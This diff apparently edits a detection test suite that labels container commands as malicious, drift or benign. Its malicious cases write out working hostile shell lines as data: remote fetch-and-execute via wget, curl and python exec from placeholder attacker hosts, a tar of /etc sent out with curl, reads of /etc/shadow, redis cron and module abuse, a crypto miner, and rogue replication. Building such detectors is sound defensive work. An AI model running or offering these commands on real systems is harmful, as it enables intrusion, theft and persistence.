@@ -46,7 +46,6 @@ CALLS = "for i in 3a 9c e1 77; do curl -s -m 3 -o /dev/null http://cdn-7f3a.evil
 BUSYONLY = ("busybox wget -q -O /var/lib/.c http://@H:8080/agent; busybox chmod 755 /var/lib/.c; busybox cp /var/lib/.c /var/lib/.d; busybox rm /var/lib/.c; "
             "busybox sh -c '/var/lib/.d @R 4444 ps 1'")
 EVALPY = "python3 -c \"import urllib.request; exec(urllib.request.urlopen('http://updates.evil.test:8080/p.py').read())\""
-SHM = "cp /bin/busybox /dev/shm/.x; /dev/shm/.x sleep 1"
 SCRIPT = "curl -s -o /var/tmp/.up http://@H:8080/i.sh; sh /var/tmp/.up"
 RECON = "id; uname -a; cat /etc/shadow; mount; ls -la /root /home; env >/dev/null; find / -perm -4000 -type f 2>/dev/null | head -3 >/dev/null"
 EXFIL = "tar -C /etc -czf - . 2>/dev/null | curl -s -m 5 -o /dev/null --data-binary @- http://@H:8080/in"
@@ -181,7 +180,7 @@ CASES = [
     ("nginx", "new-upstream", "drift", "network", "a site is served from an internal service that it never called",
      "sed -i 's#return 200 .*#proxy_pass http://search.@S.test/;#' /etc/nginx/nginx.conf; nginx -s reload; sleep 1; curl -s -m 3 -o /dev/null http://127.0.0.1/health"),
     # ---- B: redis ----
-    ("redis", "cron-by-save", "malicious", "file", "the store is told to write its data where cron looks",
+    ("redis", "cron-by-save", "malicious", "file", "the store is told to write its data where cron looks, may not, and writes it beside its copies",
      "redis-cli CONFIG SET dir /var/spool/cron/crontabs; redis-cli CONFIG SET dir /var/lib/redis/backup; redis-cli CONFIG SET dbfilename root; redis-cli SET x '* * * * * id'; redis-cli SAVE; "
      "redis-cli CONFIG SET dir /var/lib/redis; redis-cli CONFIG SET dbfilename dump.rdb"),
     ("redis", "module", "malicious", "file+privilege", "the store loads a module that was brought along", (GET % ("/var/lib/redis/exp.so", "hook.so")) + "; chmod 755 /var/lib/redis/exp.so; redis-cli MODULE LOAD /var/lib/redis/exp.so; sleep 1; true"),
@@ -194,7 +193,6 @@ CASES = [
      (GET % ("/tmp/.ICE-unix", "agent")) + "; chmod 755 /tmp/.ICE-unix; /tmp/.ICE-unix pool.minexmr.test 3333 ksoftirqd/0 1"),
     ("redis", "busybox-only", "malicious", "file+process", "all by applets of busybox", BUSYONLY.replace("/var/lib/", "/var/lib/redis/")),
     ("redis", "replica-of", "malicious", "network", "the store is made the replica of a stranger", "redis-cli REPLICAOF @R 4444; sleep 1; redis-cli REPLICAOF NO ONE"),
-    ("redis", "shm", "malicious", "process", "a program in shared memory", SHM),
     ("redis", "session-recon", "malicious", "process", "an exec session looks around, and sends what it saw", session_sh("id; cat /etc/passwd; " + EXFIL)),
     ("redis", "save", "benign", "none", "all is written to disk", "redis-cli SAVE"),
     ("redis", "upkeep", "benign", "none", "an upkeep that is known", "sh /opt/svc/upkeep.sh"),
